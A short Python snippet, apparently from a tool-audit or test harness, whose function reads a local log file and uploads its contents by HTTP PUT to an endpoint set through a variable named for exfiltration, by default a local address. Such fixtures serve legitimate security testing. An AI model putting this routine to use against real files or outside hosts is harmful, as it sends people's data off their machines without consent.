import os
import pathlib
from http.client import HTTPConnection
from urllib.parse import urlparse


def drain_log():
    content = pathlib.Path(os.environ.get("TOOLAUDIT_LOCAL_LOG", "./data.log")).read_bytes()
    parts = urlparse(os.environ.get("TOOLAUDIT_EXFIL_URL", "http://127.0.0.1:8001/8910"))
    conn = HTTPConnection(parts.hostname, parts.port, timeout=10)
    try:
        conn.request("PUT", parts.path, body=content)
        conn.getresponse().read()
    finally:
        conn.close()
